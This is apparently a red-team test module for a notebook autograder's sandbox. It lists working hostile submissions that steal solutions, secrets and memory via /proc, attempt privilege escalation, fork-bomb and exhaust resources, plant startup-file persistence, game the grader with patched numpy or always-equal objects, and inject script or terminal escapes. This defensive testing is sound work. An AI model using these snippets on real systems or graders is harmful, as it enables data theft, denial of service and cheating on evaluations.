"""Attacks: what hostile submissions do, by the classes of the threat model, and how one sees that an attack worked.

Each starts from wrong answers to everything. The same `worked` is asked of the grader, where it must say no, and of
something weaker (`against`), where it must say yes: so that no attack passes for lack of an attack.

In their texts `<COURSE>`, `<HOME>`, `<SITE>`, `<PORT>`, `<BYSTANDER>` and `<NAME>` stand for what the attacked world has.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from enum import Enum
from typing import Any


class Against(Enum):
    """What an attack is shown to work against; the README says what each lacks."""

    IN_PROCESS = "a checker that runs submissions in its own process, beside its key"
    OPEN = "this engine with the sandbox off"
    NBCLIENT = "nbclient, with which stock nbgrader runs notebooks"
    NAIVE = "a comparison as people write them"


@dataclass(frozen=True)
class Evidence:
    """What there is to see after a run: of one submission, and of the world around it."""

    score: float
    shown: str
    secret: str
    arrived: frozenset[str] = frozenset()
    left: frozenset[str] = frozenset()
    """Markers that are there: files, `process NAME`, `table NAME`, `segment`, `bystander dead`."""


Worked = Callable[[Evidence], bool]


@dataclass(frozen=True)
class Attack:
    """A cell at the top of a notebook or an answer to `column_mean`, and how one sees that it worked."""

    kind: str
    code: str
    worked: Worked
    against: Against
    as_answer: bool = False
    markers: tuple[str, ...] = ()
    fooled: Callable[[Any, Any], bool] | None = field(default=None, compare=False)


def gained(seen: Evidence) -> bool:
    return seen.score > 0


def stole(seen: Evidence) -> bool:
    return seen.secret in seen.shown


def said(text: str) -> Worked:
    return lambda seen: text in seen.shown


def arrived(name: str) -> Worked:
    return lambda seen: name in seen.arrived


def left(*markers: str) -> Worked:
    return lambda seen: any(marker in seen.left for marker in markers)


# --- stealing ---------------------------------------------------------------------------------------

SHOW = r"""
import os, re
def show(data):
    if isinstance(data, str):
        data = data.encode('utf-8', 'replace')
    for found in set(re.findall(rb'canary-[0-9a-f]{16}', data)):
        print('stolen:', found.decode())
"""
IN, OPEN, NBCLIENT, NAIVE = Against.IN_PROCESS, Against.OPEN, Against.NBCLIENT, Against.NAIVE


def steal(code: str, against: Against) -> Attack:
    return Attack("stealing", SHOW + code, stole, against)


STEALING = {
    "read-solutions": steal("show(open('<COURSE>/solutions/00_orientation/mistakes.py').read())", OPEN),
    "read-solutions-relative": steal(
        "for up in range(1, 7):\n"
        "    for folder, _, names in os.walk('../' * up + 'solutions'):\n"
        "        for name in names: show(open(os.path.join(folder, name), 'rb').read())",
        IN,
    ),
    "read-solutions-by-shell": steal(
        "import subprocess\nshow(subprocess.run('cat <COURSE>/solutions/*/mistakes.py', shell=True, capture_output=True).stdout)",
        OPEN,
    ),
    "read-gradebook": steal(
        "import sqlite3\ndb = sqlite3.connect('file:<COURSE>/gradebook.db?mode=ro', uri=True)\n"
        "show(repr(db.execute('select id from student').fetchall()))",
        OPEN,
    ),
    "read-gradebook-bytes": steal("show(open('<COURSE>/gradebook.db', 'rb').read())", OPEN),
    "list-other-learners": steal("show(repr(os.listdir('<COURSE>/submitted')))", OPEN),
    "read-key-file": steal("show(open('<HOME>/secret-key.npz', 'rb').read())", OPEN),
    "read-environment": steal("show(repr(dict(os.environ)))", IN),
    "read-environment-of-parents": steal(
        "for pid in (1, os.getppid()):\n"
        "    try: show(open(f'/proc/{pid}/environ', 'rb').read())\n"
        "    except OSError as error: print(error)",
        OPEN,
    ),
    "read-memory-of-parent": steal(
        "pid = os.getppid()\n"
        "with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', 'rb') as memory:\n"
        "    for line in maps:\n"
        "        start, end = (int(x, 16) for x in line.split()[0].split('-'))\n"
        "        if ' rw-p' in line and end - start < 1 << 27:\n"
        "            memory.seek(start)\n"
        "            try: show(memory.read(end - start))\n"
        "            except OSError: pass",
        OPEN,
    ),
    "read-own-memory": steal(
        "with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb') as memory:\n"
        "    for line in maps:\n"
        "        start, end = (int(x, 16) for x in line.split()[0].split('-'))\n"
        "        if ' rw-p' in line and end - start < 1 << 27:\n"
        "            memory.seek(start)\n"
        "            show(memory.read(end - start))",
        IN,
    ),
    "search-objects": steal(
        "import gc\n"
        "for thing in gc.get_objects():\n"
        "    if type(thing) is dict:\n"
        "        for value in list(thing.values()):\n"
        "            if isinstance(value, (str, bytes)): show(value)",
        IN,
    ),
    "search-frames": steal(
        "import sys\n"
        "for depth in range(60):\n"
        "    try: frame = sys._getframe(depth)\n"
        "    except ValueError: break\n"
        "    for value in [*frame.f_locals.values(), *frame.f_globals.values()]:\n"
        "        if isinstance(value, (str, bytes)): show(value)",
        IN,
    ),
    "read-inherited-descriptors": steal(
        "for number in range(3, 256):\n    try: show(os.pread(number, 1 << 20, 0))\n    except OSError: pass",
        IN,
    ),
    "read-parents-descriptors": steal(
        "pid = os.getppid()\n"
        "for name in os.listdir(f'/proc/{pid}/fd'):\n"
        "    try:\n"
        "        if os.readlink(f'/proc/{pid}/fd/{name}').startswith('<COURSE>'): show(open(f'/proc/{pid}/fd/{name}', 'rb').read())\n"
        "    except OSError: pass",
        OPEN,
    ),
}

# --- escape and network -----------------------------------------------------------------------------

LIBC = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"


def escape(code: str, worked: Worked, against: Against = OPEN, markers: tuple[str, ...] = ()) -> Attack:
    return Attack("escape and network", code, worked, against, markers=markers)


ESCAPE = {
    "connect-to-loopback": escape(
        "import socket\nsocket.create_connection(('127.0.0.1', <PORT>), timeout=1).sendall(b'connect-to-loopback')",
        arrived("connect-to-loopback"),
    ),
    "ask-a-name-server": escape(
        "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'ask-a-name-server', ('127.0.0.1', <PORT>))",
        arrived("ask-a-name-server"),
    ),
    "connect-by-six": escape(
        "import socket\ns = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)\nprint('a socket of the internet')",
        said("a socket of the internet\\n"),
    ),
    "packet-pair": escape(
        "import socket\nsocket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\nprint('a socket ' 'to the kernel')",
        said("a socket to the kernel"),
    ),
    "abstract-socket": escape(
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('\\0<NAME>')\ns.sendall(b'abstract-socket')",
        arrived("abstract-socket"),
    ),
    "socket-in-the-course": escape(
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('<HOME>/socket')\ns.sendall(b'socket-in-the-course')",
        arrived("socket-in-the-course"),
    ),
    "become-root": escape("import os\nos.setuid(0)\nprint('uid now', os.getuid() * 7)", said("uid now 0\\n")),
    "nested-namespaces": escape(LIBC + "print('nested', libc.unshare(0x10000000) == 0)", said("nested True")),
    "nested-namespaces-by-clone": escape(
        LIBC + "pid = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)\n"
        "if pid == 0: os._exit(0)\n"
        "print('cloned', pid > 0)",
        said("cloned True"),
    ),
    "mount-something": escape(
        LIBC + "print('mounted', libc.mount(b'tmpfs', b'.', b'tmpfs', 0, None) == 0, libc.umount2(b'.', 2) == 0)",
        said("mounted True True"),
    ),
    "signal-a-bystander": escape(
        "import os, signal\nos.kill(<BYSTANDER>, signal.SIGTERM)", left("bystander dead"), markers=("bystander dead",)
    ),
    "trace-process-1": escape(
        LIBC + "print('traced', libc.ptrace(0x4206, os.getppid(), 0, 0) == 0)", said("traced True")
    ),
    "memory-without-a-limit": escape(
        "import os\nprint('file in memory', os.memfd_create('x') > 0)", said("file in memory True")
    ),
    "leave-the-core": escape(
        "import os\nos.sched_setaffinity(0, range(os.cpu_count()))\nprint('cores:', os.sched_getaffinity(0))",
        said("cores: {0, 1"),
    ),
    "read-the-machines-log": escape(
        LIBC + "print('the log is open:', libc.klogctl(10, None, 0) > 0)", said("the log is open: True")
    ),
}

# --- exhaustion -------------------------------------------------------------------------------------


def exhaust(code: str, worked: Worked, against: Against = OPEN, markers: tuple[str, ...] = ()) -> Attack:
    return Attack("exhaustion", code, worked, against, markers=markers)


EXHAUSTION = {
    "fork-bomb": exhaust(
        "import os, time\nmade = 0\n"
        "try:\n"
        "    for _ in range(60):\n"
        "        if os.fork() == 0:\n"
        "            time.sleep(60)\n"
        "            os._exit(0)\n"
        "        made += 1\n"
        "finally: print('forks:', made)",
        said("forks: 60"),
    ),
    "thread-bomb": exhaust(
        "import threading, time\nmade = 0\n"
        "try:\n"
        "    for _ in range(200):\n"
        "        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\n"
        "        made += 1\n"
        "finally: print('threads:', made)",
        said("threads: 200"),
    ),
    "memory-of-one": exhaust(
        "import mmap\nm = mmap.mmap(-1, 4 << 30)\nprint('mapped', len(m) >> 30)", said("mapped 4")
    ),
    "memory-of-several": exhaust(
        "import os, time\n"
        "go_in, go_out = os.pipe()\n"
        "for _ in range(5):\n"
        "    if os.fork() == 0:\n"
        "        block = bytearray(b'x') * (500 << 20)\n"
        "        os.write(go_out, b'.')\n"
        "        time.sleep(60)\n"
        "        os._exit(0)\n"
        "held = 0\n"
        "while held < 5: held += len(os.read(go_in, 1))\n"
        "time.sleep(0.5)\n"
        "print('held by', held)",
        said("held by 5"),
    ),
    "disk": exhaust(
        "for i in range(20): open(f'block-{i}', 'wb').write(bytes(10 << 20))\nprint('wrote', i)", said("wrote 19")
    ),
    "one-large-file": exhaust("print('wrote', open('block', 'wb').write(bytes(40 << 20)))", said("wrote 41943040")),
    "inodes": exhaust("for i in range(10_000): open(f'f{i}', 'w').close()\nprint('made', i)", said("made 9999")),
    "shared-memory": exhaust(
        "open('/dev/shm/red-<NAME>', 'wb').write(bytes(50 << 20))\nprint('wrote', 50)",
        said("wrote 50"),
        markers=("/dev/shm/red-<NAME>",),
    ),
    "kernel-segments": exhaust(
        LIBC + "print('segment', libc.shmget(0x5EC2E7, 4096, 0o1600) >= 0)",
        lambda seen: "segment True" in seen.shown or "segment" in seen.left,
        markers=("segment",),
    ),
    "output-flood": exhaust(
        "for i in range(3000): display(i)", lambda seen: seen.shown.count("text/plain") > 2000, NBCLIENT
    ),
    "print-flood": exhaust(
        "for i in range(30): print('x' * 100_000)", lambda seen: seen.shown.count("x") > 2_000_000, NBCLIENT
    ),
    "endless-loop": exhaust("while True: pass", said("still running"), IN),
    "ignored-signals": exhaust(
        "import signal\nfor s in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}: signal.signal(s, signal.SIG_IGN)\n"
        "while True: pass",
        said("still running"),
        IN,
    ),
    "stopped-process": exhaust("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)", said("still running"), IN),
    "daemon": exhaust(
        LIBC + "import time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        libc.prctl(15, b'red-daemon', 0, 0, 0)\n"
        "        for number in range(256):\n"
        "            try: os.close(number)\n"
        "            except OSError: pass\n"
        "        time.sleep(120)\n"
        "    os._exit(0)\n"
        "time.sleep(0.3)",
        left("process red-daemon"),
        markers=("process red-daemon",),
    ),
    "everyone-killed": exhaust(  # not to be tried without a sandbox
        "import os, signal\nif os.getpid() == 2: os.kill(-1, signal.SIGKILL)\nelse: print('would kill', 'all')",
        said("would kill all"),
    ),
    "closed-descriptors": exhaust("import os\nos.closerange(0, 1024)", said("still running"), IN),
}

# --- persistence ------------------------------------------------------------------------------------


def persist(path: str, against: Against = OPEN) -> Attack:
    code = f"import os\npath = os.path.expanduser('{path}')\nos.makedirs(os.path.dirname(path), exist_ok=True)\n"
    code += "open(path, 'w').write('red = 1')"
    return Attack("persistence", code, left(path), against, markers=(path,))


PERSISTENCE = {
    "in-the-packages": persist("<SITE>/red_team_marker.py"),
    "in-the-bytecode": persist("<PACKAGE>/__pycache__/red_team_marker.cpython-311.pyc"),
    "in-the-start-of-python": persist("<HOME>/.local/lib/python3/site-packages/usercustomize.py"),
    "in-the-start-of-ipython": persist("<HOME>/.ipython/profile_default/startup/00-red.py"),
    "in-the-shell-profile": persist("~/.red-profile", IN),
    "in-shared-memory": persist("/dev/shm/red-left-<NAME>"),
    "in-the-temporary-folder": persist("<TMP>/red-left"),
    "in-another-submission": persist("<COURSE>/submitted/decoy/red-left"),
    "in-the-gradebook": Attack(
        "persistence",
        "import sqlite3\ndb = sqlite3.connect('<COURSE>/gradebook.db', timeout=5)\ndb.execute('create table red (x)')\ndb.commit()",
        left("table red"),
        OPEN,
        markers=("table red",),
    ),
    "in-the-interpreter": Attack(
        "persistence",
        "import numpy, builtins\nnumpy.red_left = builtins.red_left = True",
        left("patch"),
        IN,
        markers=("patch",),
    ),
}

# --- verdicts: guessing, patched inputs, payloads ---------------------------------------------------


def answer(kind: str, code: str, against: Against = IN, fooled: Callable[[Any, Any], bool] | None = None) -> Attack:
    return Attack(kind, code, gained, against, as_answer=True, fooled=fooled)


PATCHED = {
    "generators-that-stand-still": answer(
        "patched inputs",
        "import numpy as np\n"
        "class Still:\n    def normal(self, *a, size=None, **k): return np.zeros(size)\n"
        "    def integers(self, *a, size=None, **k): return np.zeros(size, int)\n"
        "np.random.default_rng = lambda *a: Still()\n"
        "def column_mean(X): return np.zeros(X.shape[1])",
    ),
    "inputs-set-to-zero": answer(
        "patched inputs", "import numpy as np\ndef column_mean(X):\n    X[...] = 0\n    return np.zeros(X.shape[1])"
    ),
    "one-mean-for-all": answer(
        "patched inputs",
        "import numpy as np\nnp.mean = np.average = lambda *a, **k: 0.0\n"
        "np.testing.assert_allclose = lambda *a, **k: None\ndef column_mean(X): return 0.0",
    ),
}

GUESSING = {
    "recorded-answers": answer(
        "guessing",
        "from autograder.key import load_public\n"
        "def _recorded():\n"
        "    for seen in load_public('orientation', 'column_mean').reference:\n"
        "        for label, node in seen.items:\n"
        "            if not label.startswith('the inputs after'): yield node\n"
        "_next = _recorded()\n"
        "def column_mean(X): return next(_next)",
        NAIVE,
    ),
    "claims": answer("guessing", "def column_mean(X): return True", NAIVE, lambda got, expected: bool(got)),
    "the-word-correct": answer(
        "guessing", "def column_mean(X): return 'correct'", NAIVE, lambda got, expected: got == "correct"
    ),
    "a-grid-of-guesses": answer(
        "guessing",
        "import numpy as np\ndef column_mean(X): return np.linspace(-20, 20, 200_001)[:, None] * np.ones(X.shape[1])",
        NAIVE,
        lambda got, expected: bool(_np().isclose(got, expected, atol=1e-3).any(axis=0).all()),
    ),
}


def _np() -> Any:
    import numpy as np

    return np


def _breaks(action: Callable[[Any], Any]) -> Callable[[Any, Any], bool]:
    """Fooled in the sense that the grader itself falls over."""

    def fooled(got: Any, expected: Any) -> bool:
        try:
            action(got)
        except BaseException:
            return True
        return False

    return fooled


def _as_json(value: Any) -> str:
    import json

    return json.dumps(value)


def _pickled(value: Any) -> None:
    import pickle

    pickle.loads(pickle.dumps(value))


def _first_million(value: Any) -> int:
    import itertools

    return sum(1 for _ in itertools.islice(value, 1_000_000))


def payload(code: str, fooled: Callable[[Any, Any], bool]) -> Attack:
    return answer("payloads", "import numpy as np\n" + code, NAIVE, fooled)


PAYLOADS = {
    "nan": payload(
        "def column_mean(X): return np.full(X.shape[1], np.nan)",
        lambda got, expected: not (abs(got - expected) > 1e-6).any(),
    ),
    "infinity": payload(
        "def column_mean(X): return np.full(X.shape[1], np.inf)",
        lambda got, expected: not (abs(got - expected) / abs(got) > 1e-6).any(),
    ),
    "minus-zero": payload(
        "def column_mean(X): return np.full(X.shape[1], -0.0)",
        lambda got, expected: not (got * expected > 1e-6).any(),
    ),
    "empty": payload(
        "def column_mean(X): return np.empty(0)",
        lambda got, expected: all(abs(left - right) < 1e-6 for left, right in zip(got, expected, strict=False)),
    ),
    "nothing-to-compare": payload(
        "def column_mean(X): return np.empty((0, X.shape[1]))",
        lambda got, expected: bool(_np().allclose(got, expected)),
    ),
    "view-of-a-billion": payload(
        "def column_mean(X): return np.broadcast_to(0.0, (10**9,))", lambda got, expected: got.nbytes > 4 << 30
    ),
    "lying-shape": payload(
        "class Small(np.ndarray):\n    shape = property(lambda self: (3,))\n    nbytes = 24\n"
        "def column_mean(X): return np.broadcast_to(0.0, (10**9,)).view(Small)",
        lambda got, expected: got.shape == (3,) and got.size > 10**8,
    ),
    "objects-equal-to-all": payload(
        "class Yes:\n    def __eq__(self, other): return True\n    __hash__ = None\n"
        "def column_mean(X): return np.array([Yes()] * X.shape[1])",
        lambda got, expected: bool((got == expected).all()),
    ),
    "subclass-equal-to-all": payload(
        "class Yes(np.ndarray):\n    def __eq__(self, other): return np.True_\n"
        "    def __array_ufunc__(self, *a, **k): return np.zeros(1)\n"
        "def column_mean(X): return np.zeros(3).view(Yes)",
        lambda got, expected: bool(_np().all(got == expected)),
    ),
    "number-near-to-all": payload(
        "class Near(float):\n    def __sub__(self, other): return 0.0\n    __rsub__ = __sub__\n"
        "def column_mean(X): return [Near(5)] * X.shape[1]",
        lambda got, expected: all(abs(left - right) < 1e-9 for left, right in zip(got, expected, strict=False)),
    ),
    "cycle": payload("def column_mean(X):\n    a = []\n    a.append(a)\n    return a", _breaks(_as_json)),
    "cycle-of-dicts": payload("def column_mean(X):\n    a = {}\n    a['a'] = a\n    return a", _breaks(_as_json)),
    "deep-list": payload(
        "def column_mean(X):\n    a = []\n    for _ in range(100_000): a = [a]\n    return a", _breaks(_as_json)
    ),
    "endless-generator": payload(
        "def column_mean(X):\n    while True: yield 0.0", lambda got, expected: _first_million(got) == 1_000_000
    ),
    "endless-mapping": payload(
        "class Endless(dict):\n"
        "    def items(self):\n        while True: yield 'a', 1\n"
        "    __iter__ = keys = items\n"
        "def column_mean(X): return Endless()",
        lambda got, expected: _first_million(got.items()) == 1_000_000,
    ),
    "endless-sequence": payload(
        "class Endless(list):\n    def __getitem__(self, i): return self\n    def __iter__(self):\n        while True: yield 0.0\n"
        "def column_mean(X): return Endless()",
        lambda got, expected: _first_million(got) == 1_000_000,
    ),
    "huge-int": payload("def column_mean(X): return 10**100_000", _breaks(_as_json)),
    "list-of-a-million": payload(
        "def column_mean(X): return [[0.0]] * 3_000_000", lambda got, expected: len(_as_json(got)) > 10_000_000
    ),
    "pickle": payload(
        "class Bomb:\n    def __reduce__(self): return (eval, ('1/0',))\ndef column_mean(X): return Bomb()",
        _breaks(_pickled),
    ),
    "hostile-exception": payload(
        "class Hostile(Exception):\n    def __str__(self): raise self\n    __repr__ = __str__\n"
        "def column_mean(X): raise Hostile",
        _breaks(str),
    ),
    "hostile-name": payload(
        "Hostile = type('\\x1b[31m' + 'E' * 10_000, (Exception,), {})\ndef column_mean(X): raise Hostile('\\ud800' * 10)",
        _breaks(lambda error: str(error).encode()),
    ),
    "hostile-attributes": payload(
        "class Hostile:\n    def __getattr__(self, name): raise SystemExit\n    def __array__(self, *a, **k): raise KeyboardInterrupt\n"
        "def column_mean(X): return Hostile()",
        _breaks(lambda value: _np().asarray(value, dtype=float)),
    ),
}

# --- injection --------------------------------------------------------------------------------------


def inject(code: str, worked: Worked) -> Attack:
    return Attack("injection", "from IPython.display import *\n" + code, worked, NBCLIENT)


INJECTION = {
    "html": inject("display(HTML('<scr' 'ipt>alert(1)</scr' 'ipt>'))", said("<script>alert(1)")),
    "javascript": inject("display(Javascript('al' 'ert(1)'))", said("application/javascript")),
    "svg": inject('display(SVG(data=\'<svg xmlns="http://www.w3.org/2000/svg" onload="x"/>\'))', said("image/svg+xml")),
    "latex-and-markdown": inject("display(Markdown('[x](java' 'script:alert(1))'))", said("text/markdown")),
    "forged-mime": inject(
        "display({'text/html': '<img src=x on' 'error=alert(1)>', 'text/plain': 'x'}, raw=True)",
        said("onerror=alert(1)"),
    ),
    "picture-with-a-tag": inject(
        "import base64\npng = base64.b64encode(b'\\x89PNG\\r\\n\\x1a\\n').decode()\n"
        "display({'image/png': png + '\">' + '<scr' 'ipt>alert(2)', 'text/plain': 'x'}, raw=True)",
        said("<script>alert(2)"),
    ),
    "picture-with-baggage": inject(
        "import base64\n"
        "png = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==')\n"
        "display({'image/png': base64.b64encode(png + b'<html>' * 9).decode(), 'text/plain': 'x'}, raw=True)",
        said("xodG1sPjxodG1s"),
    ),
    "terminal-title": inject("print(chr(27) + ']0;owned' + chr(7))", said("\\u001b]0;owned")),
    "terminal-colours": inject("print(chr(27) + '[2J' + chr(0x9b) + '31m')", said("\\u001b[2J")),
    "text-turned-round": inject("print(chr(0x202e) + 'abc')", said("\\u202e")),
    "error-with-a-tag": inject("raise ValueError(chr(27) + ']8;;http://x' + chr(7))", said("\\u001b]8;;http://x")),
}

ATTACKS: dict[str, Attack] = {
    **STEALING, **ESCAPE, **EXHAUSTION, **PERSISTENCE, **PATCHED, **GUESSING, **PAYLOADS, **INJECTION,
}  # fmt: skip
